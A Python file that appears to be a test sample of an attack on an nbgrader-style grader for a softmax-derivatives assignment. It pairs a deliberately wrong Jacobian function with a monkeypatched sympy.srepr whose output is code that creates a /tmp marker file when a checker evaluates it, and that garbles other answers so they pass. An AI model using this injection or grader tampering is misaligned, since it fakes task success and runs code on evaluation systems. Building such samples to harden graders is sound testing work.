"""Tries: to run code in the grader. A wrong symbolic_softmax_jacobian, with sympy.srepr replaced
in the kernel so that the text describing its result is Python that creates a file if a checker
ever eval()s or sympify()s it. The replaced srepr also garbles the results of the (right)
quotient_rule, so nbgrader passes its cells and the trusted check cannot read them.

assignment: softmax-derivatives
function: symbolic_softmax_jacobian
fools nbgrader: quotient_rule_example, quotient_rule_other_functions
"""

import sympy as sp


def symbolic_softmax_jacobian(n):
    return sp.zeros(n, n)


sp.srepr = lambda expr: (
    'exp(\'__import__("pathlib").Path("/tmp/softmax-trusted-pwned").touch() or 1\')'
)
